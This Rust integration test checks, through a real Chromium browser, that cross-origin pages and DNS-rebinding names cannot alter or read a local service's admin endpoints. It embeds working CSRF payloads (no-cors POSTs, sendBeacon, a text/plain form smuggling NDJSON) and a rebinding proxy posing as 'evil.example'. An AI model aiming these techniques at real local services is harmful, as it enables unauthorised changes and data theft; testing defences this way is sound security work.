//! What a web page can do to a service on this machine, tried by a real Chromium: a page of another
//! origin, and one whose name leads to the service (DNS rebinding), change nothing and read nothing;
//! the service's own pages do both.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::mpsc::{self, Receiver};
use std::thread;
use std::time::Duration;

use guanxi_services::Chromium;
use guanxi_tests::{Server, poll_until, standing, start_standby, walk_ids};
use serde_json::{Value, json};

/// A browser on a busy machine takes its time to start.
const PAGE_DEADLINE: Duration = Duration::from_secs(180);
const REPORT: &str = "/report";
/// A name of its own, so that no report goes along a connection that leads to the service.
const REPORT_HOST: &str = "reports.example";
const PAGE: &str = "/page";

/// Tries each, and sends what came of it to where this page's server listens. Opaque answers are
/// those that a page may cause but not see.
const SCRIPT: &str = r#"
const outcome = {};
const attempt = async (name, act) => {
  try { outcome[name] = await act(); } catch (error) { outcome[name] = "failed: " + error; }
};
const send = (url, options) => fetch(url, options).then(async (answer) =>
  answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text()));
const finish = () => fetch(REPORTS, {
  method: "POST", mode: "no-cors", body: JSON.stringify(outcome) });
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
// A frame does not say that what it was sent is nothing to show.
const soon = (promise) => Promise.race([promise, pause(3000).then(() => "nothing")]);
"#;

const STRANGER: &str = r#"
const line = (target) =>
  JSON.stringify({ kind: "follow", source: "1", target: String(target) }) + "\n";
const blind = (options) => ({ method: "POST", mode: "no-cors", ...options });
const form = (action, encoding, name, value) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  const form = document.createElement("form");
  Object.assign(form, { action, method: "post", enctype: encoding, target: frame.name });
  const input = Object.assign(document.createElement("textarea"), { name, value });
  form.append(input);
  document.body.append(frame, form);
  return soon(new Promise((done) => { frame.onload = () => done("loaded"); form.submit(); }));
};
(async () => {
  await attempt("import text", () => send(S + "/v1/admin/import?format=ndjson",
    blind({ body: line(101) })));
  await attempt("import blob", () => send(S + "/v1/admin/import",
    blind({ body: new Blob([line(102)]) })));
  await attempt("import without referrer", () => send(S + "/v1/admin/import?format=ndjson",
    blind({ body: line(103), referrerPolicy: "no-referrer" })));
  await attempt("import beacon", async () =>
    String(navigator.sendBeacon(S + "/v1/admin/import?format=ndjson", line(104))));
  await attempt("import form", () => form(S + "/v1/admin/import?format=ndjson", "text/plain",
    '{"kind":"follow","source":"1","target":"105","data":"', '"}'));
  await attempt("import json", () => send(S + "/v1/admin/import", { method: "POST",
    headers: { "content-type": "application/x-ndjson" }, body: line(106) }));
  await attempt("approve", () => send(S + "/v1/edges/follow/1/2/approve", blind({})));
  await attempt("approve form", () => form(S + "/v1/edges/follow/1/2/approve",
    "application/x-www-form-urlencoded", "a", "b"));
  await attempt("audit", () => send(S + "/v1/admin/audit", blind({})));
  await attempt("promote", () => send(STANDBY + "/v1/admin/promote", blind({})));
  await attempt("put", () => send(S + "/v1/edges/follow/1/107", { method: "PUT" }));
  await attempt("delete", () => send(S + "/v1/edges/follow/1/2", { method: "DELETE" }));
  await attempt("read export", () => send(S + "/v1/admin/export", {}));
  await attempt("read edge", () => send(S + "/v1/edges/follow/1/2", {}));
  await attempt("read health", () => send(S + "/healthz", {}));
  await attempt("frame", () => soon(new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done("saw " + frame.contentDocument.body.textContent); }
      catch (error) { done("failed: " + error); }
    };
    frame.src = S + "/docs";
    document.body.append(frame);
  })));
  await finish();
})();
"#;

/// For pages that the browser takes for the service's own.
const NEIGHBOUR: &str = r#"
(async () => {
  const json = { "content-type": "application/json" };
  await attempt("read export", () => send("/v1/admin/export", {}));
  await attempt("put", () => send("/v1/edges/follow/1/" + TARGET, { method: "PUT" }));
  await attempt("import", () => send("/v1/admin/import", { method: "POST",
    headers: { "content-type": "application/x-ndjson" },
    body: JSON.stringify({ kind: "follow", source: "1", target: String(TARGET + 1) }) + "\n" }));
  await attempt("audit", () => send("/v1/admin/audit", { method: "POST", headers: json }));
  await attempt("docs", async () => {
    const frame = Object.assign(document.createElement("iframe"), { src: "/docs" });
    document.body.append(frame);
    for (let waited = 0; waited < 300; waited++) {
      const calls = frame.contentDocument.querySelectorAll("details").length;
      if (calls > 20) return "calls";
      await pause(100);
    }
    return "nothing";
  });
  await finish();
})();
"#;

/// A web server of somebody else: it has one page, and takes the page's report. Whatever else it
/// is asked for goes to the service, byte by byte: that is what a name does that first leads to its
/// owner and then to the service.
struct Stranger {
    address: SocketAddr,
    reports: Receiver<Value>,
}

impl Stranger {
    fn start(script: &str, service: SocketAddr) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let address = listener.local_addr().expect("a bound address");
        let reports = format!("http://{REPORT_HOST}:{}{REPORT}", address.port());
        let script = format!("const REPORTS = '{reports}';{SCRIPT}{script}");
        let page = format!("<!doctype html><title>x</title><body><script>{script}</script>");
        let (reporting, reports) = mpsc::channel();
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (page, reporting) = (page.clone(), reporting.clone());
                thread::spawn(move || {
                    if let Some(report) = serve(stream, &page, service) {
                        let _ = reporting.send(report);
                    }
                });
            }
        });
        Self { address, reports }
    }

    /// What the page at this address found out; `host` leads to `to`.
    fn report(&self, browser: &Chromium, url: &str, host: &str, to: &str) -> Value {
        let hosts = [format!("MAP {REPORT_HOST} 127.0.0.1"), format!("MAP {host} {to}")];
        let _open = browser.open(url, &hosts);
        let report = self.reports.recv_timeout(PAGE_DEADLINE).expect("the page reports in time");
        println!("{url}: {report:#}");
        report
    }
}

/// One connection; the report, if that is what came.
fn serve(mut stream: TcpStream, page: &str, service: SocketAddr) -> Option<Value> {
    let mut gathered = Vec::new();
    let head = loop {
        if let Some(end) = gathered.windows(4).position(|bytes| bytes == b"\r\n\r\n") {
            break String::from_utf8_lossy(&gathered[..end]).into_owned();
        }
        read_more(&mut stream, &mut gathered)?;
    };
    let path = head.split(' ').nth(1)?;
    let answer = |stream: &mut TcpStream, body: &str| {
        let length = body.len();
        let _ = write!(
            stream,
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\n\
             Connection: close\r\n\r\n{body}"
        );
    };
    match path {
        PAGE => {
            answer(&mut stream, page);
            None
        }
        REPORT => {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().ok())?
            });
            let whole = head.len() + 4 + length.unwrap_or(0);
            while gathered.len() < whole {
                read_more(&mut stream, &mut gathered)?;
            }
            answer(&mut stream, "");
            serde_json::from_slice(&gathered[head.len() + 4..]).ok()
        }
        _ => {
            let mut onward = TcpStream::connect(service).ok()?;
            onward.write_all(&gathered).ok()?;
            let (mut from, mut to) = (stream.try_clone().ok()?, onward.try_clone().ok()?);
            let sending = thread::spawn(move || std::io::copy(&mut from, &mut to));
            let _ = std::io::copy(&mut onward, &mut stream);
            let _ = stream.shutdown(std::net::Shutdown::Both);
            let _ = sending.join();
            None
        }
    }
}

fn read_more(stream: &mut TcpStream, gathered: &mut Vec<u8>) -> Option<()> {
    let mut buffer = [0; 4096];
    let count = stream.read(&mut buffer).ok().filter(|count| *count > 0)?;
    gathered.extend_from_slice(&buffer[..count]);
    Some(())
}

fn targets(server: &Server) -> Vec<u64> {
    walk_ids(server, "/v1/edges/follow/1/outgoing", 100)
}

/// A service with one edge, and one that waits for approval.
fn service() -> Server {
    let server = Server::start();
    server.put("/v1/edges/follow/1/3").ok();
    server.put_json("/v1/edges/follow/1/2", json!({"approval": true})).ok();
    server
}

#[track_caller]
fn assert_untouched(server: &Server, what: &str) {
    let edge = server.get("/v1/edges/follow/1/2");
    assert_eq!(edge.ok()["state"], "pending", "{what}: nobody approved");
    assert_eq!(targets(server), [3], "{what}: nothing came and nothing went");
    let audit = server.get("/v1/admin/audit");
    assert_eq!(audit.ok()["running"], Value::Null, "{what}: no audit runs");
    assert_eq!(audit.ok()["last"], Value::Null, "{what}: no audit has run");
}

#[test]
fn a_page_of_another_origin_changes_nothing_and_reads_nothing() {
    let name = "a_page_of_another_origin_changes_nothing_and_reads_nothing";
    let Some(browser) = Chromium::find_or_skip(name) else { return };
    let server = service();
    let standby = start_standby(&server);
    let services = format!("const S = '{}', STANDBY = '{}';", server.url(), standby.url());
    let stranger = Stranger::start(&format!("{services}{STRANGER}"), server.address());
    let port = stranger.address.port();
    // Another site, the same site under another port, and a name that the machine gives itself.
    for host in ["evil.example", "127.0.0.1", "localhost"] {
        let url = format!("http://{host}:{port}{PAGE}");
        let report = stranger.report(&browser, &url, "evil.example", "127.0.0.1");
        for (attempt, outcome) in report.as_object().expect("outcomes") {
            let outcome = outcome.as_str().expect("a text");
            let blind = ["opaque", "true", "loaded", "nothing"].contains(&outcome);
            assert!(blind || outcome.starts_with("failed: "), "{host}: {attempt} saw {outcome}");
        }
        assert_eq!(report.as_object().map(|outcomes| outcomes.len()), Some(16), "{report}");
        assert_eq!(report["approve"], "opaque", "it did reach the service, and heard nothing");
        assert_untouched(&server, host);
        assert_eq!(standing(&standby.client())["role"], "standby", "{host}: nobody promoted it");
    }
}

#[test]
fn a_name_that_leads_to_the_service_is_not_its_own() {
    let name = "a_name_that_leads_to_the_service_is_not_its_own";
    let Some(browser) = Chromium::find_or_skip(name) else { return };
    let server = service();
    let script = format!("const TARGET = 201;{NEIGHBOUR}");
    let stranger = Stranger::start(&script, server.address());
    let to = stranger.address.to_string();
    let port = server.address().port();

    let url = format!("http://rebound.example:{port}{PAGE}");
    let report = stranger.report(&browser, &url, &format!("rebound.example:{port}"), &to);
    for attempt in ["read export", "put", "import", "audit"] {
        let outcome = report[attempt].as_str().expect("a text");
        assert!(outcome.starts_with("403 ") && outcome.contains("forbidden"), "{report:#}");
    }
    assert_eq!(report["docs"], "nothing", "{report:#}");
    assert_untouched(&server, "rebound");

    // The same page under a name of the service's own shows that only the name stood in its way.
    let url = format!("http://localhost:{port}{PAGE}");
    let report = stranger.report(&browser, &url, &format!("localhost:{port}"), &to);
    for attempt in ["read export", "put", "import", "audit"] {
        let outcome = report[attempt].as_str().expect("a text");
        assert!(outcome.starts_with("20"), "{attempt}: {report:#}");
    }
    assert_eq!(report["docs"], "calls", "{report:#}");
    poll_until("both edges stand", PAGE_DEADLINE, || {
        let found = targets(&server);
        [201, 202].iter().all(|id| found.contains(id)).then_some(())
    });
}
